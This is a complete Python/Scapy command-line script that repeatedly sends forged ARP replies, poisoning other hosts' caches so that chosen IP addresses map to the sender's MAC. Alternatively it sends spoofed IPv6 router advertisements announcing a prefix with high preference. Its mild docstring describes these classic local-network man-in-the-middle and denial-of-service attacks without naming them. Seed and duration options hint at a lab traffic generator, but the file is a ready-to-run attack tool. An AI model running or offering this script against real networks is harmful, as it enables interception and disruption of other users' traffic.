"""Tells stations that another's address is at this one (arp), or that this one is a router (router)."""

import argparse
import random
import time

from scapy.all import ARP, Ether, ICMPv6ND_RA, ICMPv6NDOptPrefixInfo, ICMPv6NDOptSrcLLAddr, IPv6, conf, getmacbyip

_ALL_NODES = ("33:33:00:00:00:01", "ff02::1")


def main():
    arguments = _arguments()
    chance = random.Random(arguments.seed)
    out = conf.L2socket(iface="eth0")
    frames = _answers(arguments) if arguments.what == "arp" else [_advertisement(arguments)]
    until = time.monotonic() + arguments.seconds
    while time.monotonic() < until:
        for frame in frames:
            out.send(frame)
        time.sleep(arguments.period * chance.uniform(0.5, 1.5))


def _answers(arguments):
    frames = []
    for pair in arguments.pairs.split(","):
        told, taken = pair.split("=")
        station = getmacbyip(told) or "ff:ff:ff:ff:ff:ff"
        said = ARP(op=arguments.operation, hwsrc=arguments.mine, psrc=taken, hwdst=station, pdst=told)
        frames.append(Ether(src=arguments.mine, dst=station) / said)
    return frames


def _advertisement(arguments):
    lives = arguments.lifetime
    said = ICMPv6ND_RA(routerlifetime=lives, prf=1, chlim=64)
    said /= ICMPv6NDOptPrefixInfo(prefix=arguments.prefix, prefixlen=64, validlifetime=20, preferredlifetime=10)
    said /= ICMPv6NDOptSrcLLAddr(lladdr=arguments.mine)
    return Ether(src=arguments.mine, dst=_ALL_NODES[0]) / IPv6(src=arguments.source, dst=_ALL_NODES[1], hlim=255) / said


def _arguments():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("what", choices=("arp", "router"))
    parser.add_argument("--mine", required=True, help="the station's MAC address")
    parser.add_argument("--pairs", help="TOLD=TAKEN,...: who is told, and whose address is taken")
    parser.add_argument("--operation", type=int, default=2)
    parser.add_argument("--source")
    parser.add_argument("--prefix")
    parser.add_argument("--lifetime", type=int, default=0)
    parser.add_argument("--period", type=float, required=True)
    parser.add_argument("--seconds", type=float, required=True)
    parser.add_argument("--seed", type=int, required=True)
    return parser.parse_args()


main()
